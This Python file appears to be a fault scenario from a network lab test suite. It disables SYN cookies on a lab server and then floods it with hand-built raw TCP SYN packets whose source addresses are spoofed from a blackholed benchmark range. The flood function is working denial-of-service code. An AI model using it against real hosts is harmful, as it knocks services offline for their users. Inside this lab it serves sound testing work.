"""Somebody sends SYNs in the names of others, and the server may not use SYN cookies."""
import socket
import struct
import time

from services import some_service

FAMILY = 4
EXPECT = {'symptom': 'syn-unanswered'}


def build(lab):
    lab.service = some_service(lab, backlog=8)
    lab.server.sysctl('net.ipv4.tcp_syncookies=0', 'net.ipv4.tcp_max_syn_backlog=16')
    lab.router.run('ip route add blackhole 198.18.0.0/15')


def add(data):
    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def flood(address, port):
    to = socket.inet_aton(address)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        for number in range(1 << 16):
            source = socket.inet_aton(f'198.18.{number >> 8 & 255}.{number & 255}')
            head = struct.pack('!HHIIBBHHH', 1024 + number % 60000, port, number, 0, 0x50, 2, 64240, 0, 0)
            check = add(source + to + struct.pack('!HH', 6, len(head)) + head)
            head = head[:16] + struct.pack('!H', check) + head[18:]
            s.sendto(struct.pack('!BBHHHBBH4s4s', 0x45, 0, 40, 0, 0, 64, 6, 0, source, to) + head, (address, 0))
            time.sleep(0.002 if number < 200 else 0.02)


def fault(lab):
    lab.router.fork(flood, lab.address, lab.port)
    time.sleep(0.6)
